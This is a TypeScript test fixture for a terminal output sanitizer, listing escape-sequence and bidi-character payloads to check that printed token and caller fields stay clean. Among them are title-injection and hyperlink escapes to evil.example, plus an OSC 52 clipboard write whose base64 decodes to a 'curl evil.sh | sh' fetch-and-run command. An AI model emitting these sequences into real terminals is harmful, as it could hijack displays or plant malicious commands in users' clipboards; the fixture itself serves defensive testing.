import type { Message } from '../../src/wire/message.js';
import { frame } from './render-fixtures.js';

/**
 * Terminal attacks a token or caller name could carry, and the check that output holds none.
 * Shared by the sanitizer, lines and table tests.
 */

export const HOSTILE: Record<string, string> = {
  'CSI clear screen': 'a\x1b[2J\x1b[Hb',
  'OSC 0 title, BEL': '\x1b]0;pwned\x07title',
  'OSC 2 title, ST': '\x1b]2;pwned\x1b\\title',
  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
  'OSC 52 clipboard': '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
  'C1 CSI as UTF-8': 'x\u009b2Jy',
  'C1 OSC and ST as UTF-8': '\u009d0;pwned\u009c',
  DEL: 'a\x7fb',
  'RLO override': 'abc\u202etxt.exe',
  'LRI isolate': '\u2066hidden\u2069',
  'bidi marks': 'a\u200e\u200f\u061cb',
  'lone ESC at the end': 'name\x1b',
  NUL: 'nu\x00l',
  'CR and LF': 'line1\r\nline2\rover',
  TAB: 'a\tb',
  'line separators': 'a\u2028b\u2029c',
};

/** Every character the human formats must never print from the feed. */
export function isForbidden(cp: number): boolean {
  return (
    cp <= 0x1f ||
    (cp >= 0x7f && cp <= 0x9f) ||
    cp === 0x061c ||
    cp === 0x200e ||
    cp === 0x200f ||
    cp === 0x2028 ||
    cp === 0x2029 ||
    (cp >= 0x202a && cp <= 0x202e) ||
    (cp >= 0x2066 && cp <= 0x2069)
  );
}

/** Chalk's own colour sequences, the only escapes expected in coloured output. */
export const SGR = /\x1b\[[0-9;]*m/g;

/**
 * The forbidden characters in `output` once chalk's SGR sequences and the line terminators are
 * removed, as `U+XXXX` names (empty when clean).
 */
export function forbiddenIn(output: string): string[] {
  const found: string[] = [];
  for (const line of output.replace(SGR, '').split('\n')) {
    for (const ch of line) {
      const cp = ch.codePointAt(0)!;
      if (isForbidden(cp)) found.push(`U+${cp.toString(16).padStart(4, '0')}`);
    }
  }
  return found;
}

/** `s` in every field the human formats print: a full call, a caller known only by id, a non-call. */
export function hostileMessages(s: string): Message[] {
  return [
    frame({
      type: 'NEW_SCAN',
      data: {
        token_address: s,
        token_name: s,
        token_symbol: s,
        caller: { id: 'id', name: s, platform: s },
        price_data: { current_price: s, market_cap: s },
      },
    }),
    frame({ type: 'NEW_SCAN', data: { token_address: 'A', caller: { id: s } } }),
    frame({ type: s, data: { note: s } }),
  ];
}
